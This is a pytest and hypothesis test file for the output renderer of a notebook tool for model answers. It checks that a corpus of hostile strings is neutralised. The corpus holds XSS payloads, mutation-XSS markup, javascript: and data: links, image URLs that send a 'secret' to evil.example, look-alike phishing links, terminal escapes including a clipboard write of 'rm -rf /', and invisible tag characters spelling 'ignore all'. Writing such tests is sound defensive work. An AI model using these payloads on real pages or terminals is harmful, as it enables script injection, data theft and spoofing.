"""Nothing that a model writes can run, load, restyle or hide anything, whole or cut anywhere."""

from __future__ import annotations

import base64
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from nbgemini.events import Citation, Citations, Code, CodeResult, Media, ToolCall, ToolRun
from nbgemini.render.bundle import bundle, error_bundle, live_bundle, prompt_bundle, status_bundle, table_bundle
from nbgemini.render.markdown import code_html, to_html
from nbgemini.render.sanitise import sanitised
from nbgemini.render.text import harmless
from nbgemini.segments import Segment
from tests.render.checker import controls, faults, text_of

SVG = base64.b64encode(b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>').decode()

PAYLOADS = [
    # elements that run or load
    "<script>alert(1)</script>",
    "<ScRiPt/src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'/>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml;base64,AAAA#x'/></svg>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><button formaction=javascript:alert(1)>go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "<!DOCTYPE html><body onload=alert(1)>",
    # markup that changes its meaning when parsed twice
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<xmp><p title='</xmp><img src onerror=alert(1)>'>",
    "&lt;script&gt;alert(1)&lt;/script&gt; and &#60;img src=x onerror=alert(1)&#62;",
    # links
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java&#115;cript:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](<java\tscript:alert(1)>)",
    "[a](\x01javascript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](vbscript:msgbox)",
    "[a](file:///etc/passwd)",
    "[a](//evil.example/x)",
    "[a](\\\\evil.example\\x)",
    "[a](/api/contents)",
    "[a](#top)",
    "[a](../../lab?reset)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[a]\n\n[a]: javascript:alert(1)",
    "[a]\n\n[a]: <vbscript:x> 'title'",
    "[a](https://a.example 'x\" onmouseover=\"alert(1)')",
    '[a](https://a.example/"onmouseover="alert(1))',
    "[https://bank.example](https://evil.example)",
    "[a](https://bank.example@evil.example/)",
    "[a](https://xn--80ak6aa92e.com/) [b](https://\u0430pple.com/)",
    "[a](http://[::1)",
    "[a](blob:https://a.example/1)",
    # images
    "![a](https://evil.example/p.png?secret=1)",
    "![a](http://evil.example/p.png 'x')",
    "![a](//evil.example/p.png)",
    "![a][r]\n\n[r]: https://evil.example/p.png",
    "[![a](https://evil.example/p.png)](javascript:alert(1))",
    f"![a](data:image/svg+xml;base64,{SVG})",
    '![a](data:image/png;base64,AAAA"onerror=alert(1))',
    '!["><script>alert(1)</script>](data:image/png;base64,AAAA)',
    "![a](files/private.png)",
    "![a](attachment:x.png)",
    # names that a front end gives a meaning to
    "<div data-commandlinker-command='console:create' data-commandlinker-args='{}'>x</div>",
    "<div class='jp-RenderedHTMLCommon jp-mod-trusted lm-Widget'>x</div>",
    "<a id=location name=cookie href='https://a.example'>x</a>",
    "<p style='position:fixed;inset:0;background:url(//evil.example)'>x</p>",
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\n<b>\n```',
    '~~~jp-x" style="x\nbody\n~~~',
    "`<img src=x onerror=alert(1)>`",
    "# <img src=x onerror=alert(1)>",
    "| <script> | b |\n|:-:|-:|\n| <img src=x onerror=alert(1)> | </td></table><script>alert(1)</script> |",
    "</div></div></div></details></pre>after",
    "<div><div><pre><details>",
    "> </blockquote><script>alert(1)</script>",
    "1. </ol><ol start='1\" onclick=alert(1)'>",
    # formulas
    r"$\href{javascript:alert(1)}{x}$",
    r"$$\require{html}\cssId{x}{\class{jp-x}{\style{position:fixed}{y}}}$$",
    "$<script>alert(1)</script>$",
    "$$\n</div><img src=x onerror=alert(1)>\n$$",
    r"$\unicode{x3c}script\unicode{x3e}$ $\def\x{\x\x}\x$",
    # text that a terminal obeys or a reader cannot see
    "\x1b]0;title\x07\x1b[2J\x1b[31mred\x1b[0m",
    "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]52;c;cm0gLXJmIC8=\x07",
    "\x9b31m\x9d0;x\x9c\x90q\x85",
    "a\x00b\x08\x08c\x7f\rd\r\ne",
    "access\u202e\u2066txt.exe\u2069\u202c",
    "hidden" + "".join(chr(0xE0000 + ord(char)) for char in "ignore all") + "\U000e0001",
    "a\u200bb\u2060c\ufeffd\u00ade\u061cf",
    "lone \ud83d surrogate \udc00",
]


def check(data):
    assert faults(data["text/html"]) == []
    assert controls(data["text/html"]) == []
    assert controls(data["text/plain"]) == []


def prefixes(payload):
    return [payload[:end] for end in range(0, len(payload), 7 if len(payload) > 60 else 1)] + [payload]


def segment(kind, text):
    made = Segment(0, kind)
    made.append(text)
    return made


def test_the_corpus_is_not_thin():
    assert len(set(PAYLOADS)) >= 56


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_prefix_of_an_answer_is_harmless(payload):
    for prefix in prefixes(payload):
        assert faults(to_html(prefix)) == []
        check(bundle(segment("answer", prefix)))
        check(bundle(segment("thought", prefix), seconds=3))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_other_text_is_harmless(payload):
    specials = [
        ToolRun(ToolCall(payload, {payload: payload, "list": [payload]})),
        Code(payload, payload),
        Code(payload),
        CodeResult(payload, ok=False),
        Citations((Citation(payload, payload), Citation("https://a.example/" + payload, payload), Citation(payload))),
        Media(payload, payload),
        Media(payload, base64.b64encode(payload.encode("utf-8", "replace")).decode()),
    ]
    for content in specials:
        check(bundle(Segment(0, "code", content)))
    for data in (
        error_bundle(payload, payload),
        status_bundle(payload, payload),
        live_bundle("answer", payload),
        live_bundle("thought", payload),
        prompt_bundle(payload),
        table_bundle([payload, "b"], [[payload, payload]]),
    ):
        check(data)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_sanitiser_alone_is_enough(payload):
    """Whatever a fault in the Markdown parser let through as HTML."""
    for wrapped in (payload, f"<div>{payload}</div>", f'<a href="{payload}">x</a>', f'<img src="{payload}">'):
        cleaned = sanitised(wrapped.encode("utf-8", "replace").decode())
        assert faults(cleaned) == []
        assert sanitised(cleaned) == cleaned
    assert faults(sanitised(code_html(payload.encode("utf-8", "replace").decode(), payload))) == []


@settings(max_examples=500, deadline=None)
@given(
    st.lists(st.sampled_from(PAYLOADS) | st.text(st.characters(exclude_categories=()), max_size=20), max_size=4).map("".join)
)
def test_any_text_is_harmless(text):
    html = to_html(text)
    assert faults(html) == []
    assert controls(html) == []
    assert sorted(re.split("[ >]", sanitised(html))) == sorted(re.split("[ >]", html))  # it may swap attributes


def test_raw_html_is_shown_as_text():
    assert "<script>alert(1)</script>" in text_of(to_html("<script>alert(1)</script>"))


def test_a_link_says_where_it_leads():
    assert "(evil.example)" in text_of(to_html("[https://bank.example](https://evil.example)"))
    assert "(evil.example)" in text_of(to_html("[a](https://bank.example@evil.example/)"))
    assert "(xn--pple-43d.com)" in text_of(to_html("[a](https://\u0430pple.com/)"))


def test_a_title_cannot_pose_as_the_host_of_a_citation():
    shown = text_of(
        bundle(Segment(0, "citations", Citations((Citation("https://evil.example", "bank.example"),))))["text/html"]
    )
    assert "bank.example (evil.example)" in shown


@pytest.mark.parametrize(
    "text",
    [
        "&#x202e;abc",
        "<https://a.example/%e2%80%ae>",
        "<https://a.example/%1b[31m>",
        '[a](https://a.example "&#x202e;")',
        "![&#8238;](x)",
    ],
)
def test_no_control_character_comes_out_of_the_parser(text):
    """Entities and percent signs become characters only there."""
    html = to_html(text)
    assert html == harmless(html)
    assert "\u202e" not in html
    assert "\x1b" not in html
